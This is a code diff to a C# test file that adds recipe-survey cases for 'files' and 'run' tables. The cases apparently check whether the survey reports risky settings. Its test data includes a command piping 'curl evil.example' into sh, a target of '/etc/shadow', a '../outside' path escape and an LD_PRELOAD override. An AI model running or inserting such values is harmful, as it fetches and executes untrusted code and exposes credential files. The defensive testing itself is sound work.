@@ -89,6 +89,14 @@ public sealed partial class RecipeSurveyTests : IDisposable
         ("cuda-compat.release", "cuda-compat", "\"13.1\"", Nothing),
         ("cuda-compat.mirrors", "cuda-compat", "[\"file:///srv/nvidia\"]", "directory /srv/nvidia"),
         ("cuda-compat.archive", "cuda-compat", "\"/srv/x.tar.xz\"", "file /srv/x.tar.xz"),
+        ("files.source", "files", "\"../outside\"", "directory ROOT/outside"),
+        // Inside; which places are refused, the reader says.
+        ("files.target", "files", "\"/etc/shadow\"", Nothing),
+        ("files.mode", "files", "\"0777\"", Nothing),
+        // In the sandbox of packages, whatever it is.
+        ("run.command", "run", "\"curl evil.example | sh\"", "commands the build sandbox"),
+        ("run.name", "run", "\"harmless\"", "commands the build sandbox"),
+        ("run.environment", "run", "{ LD_PRELOAD = \"/x\" }", "commands the build sandbox"),
         (
             "environment.pass",
             "environment",
@@ -167,6 +175,16 @@ public sealed partial class RecipeSurveyTests : IDisposable
                 lines[table] = ["url = \"https://apt.example\"", "suite = \"s\"", "key = \"key.gpg\""];
             }
 
+            if (table == "files")
+            {
+                lines[table] = ["source = \"./key.gpg\"", "target = \"/etc/key\""];
+            }
+
+            if (table == "run")
+            {
+                lines[table] = ["command = \"true\""];
+            }
+
             lines.TryAdd(table, []);
             lines[table].RemoveAll(line => line.StartsWith(name + " =", StringComparison.Ordinal));
             lines[table].Add($"{name} = {value}");
@@ -183,7 +201,7 @@ public sealed partial class RecipeSurveyTests : IDisposable
                 lines.Select(one =>
                     (
                         one.Key.Length == 0 ? ""
-                        : one.Key is "mounts" or "archives" ? $"[[{one.Key}]]\n"
+                        : one.Key is "mounts" or "archives" or "files" or "run" ? $"[[{one.Key}]]\n"
                         : $"[{one.Key}]\n"
                     ) + string.Concat(one.Value.Select(line => line + "\n"))
                 )
